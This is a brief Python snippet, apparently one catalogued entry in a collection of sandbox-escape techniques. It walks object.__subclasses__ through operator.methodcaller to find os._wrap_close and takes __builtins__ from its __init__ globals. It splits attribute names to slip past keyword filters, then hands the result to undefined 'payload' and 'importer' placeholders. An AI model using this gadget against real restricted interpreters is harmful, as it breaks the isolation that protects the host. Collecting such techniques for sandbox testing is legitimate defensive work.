# kind: capability
# operator.methodcaller calls a method by name: object.__subclasses__.
import operator
for c in operator.methodcaller("__subclasses__")(object):
    if str(c) == "<class 'os._wrap_close'>":
        g = getattr(getattr(c, "__in" + "it__"), "__glo" + "bals__")
        payload(importer(g["__builtins__"]))
